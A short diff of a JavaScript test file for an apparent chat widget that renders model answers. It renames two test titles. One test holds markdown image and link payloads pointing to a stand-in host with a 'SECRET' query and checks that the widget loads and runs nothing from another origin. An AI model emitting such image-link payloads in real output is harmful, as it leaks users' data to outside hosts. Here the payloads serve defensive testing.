@@ -52,7 +52,7 @@ async function openModel() {
 }
 
 describe('an answer of a model', () => {
-  test('goes on after the line was cut and on the next page, and is stopped', async () => {
+  test('continues after a broken connection and on the next page, and can be stopped', async () => {
     const { model, given } = await openModel();
     model.otherwise(hangsAfter('The mill grinds in the morning, and'));
     const { site, shop, team } = await openSiteWithWidget({}, given);
@@ -83,7 +83,7 @@ describe('an answer of a model', () => {
     await keepPicture(page, 'widget-stopped');
   });
 
-  test('S17, S18: with pictures, links and markup of every kind asks nothing of another origin and runs nothing', async () => {
+  test('S17, S18: with pictures, links and markup loads nothing from another origin and runs nothing', async () => {
     const evil = 'https://evil.example/?q=SECRET';
     const spoken = [
       `![a](${evil}) ! [b](${evil}) ![c][r] ![r] [d](${evil}) [e] (<${evil}> "t") <${evil}>`,
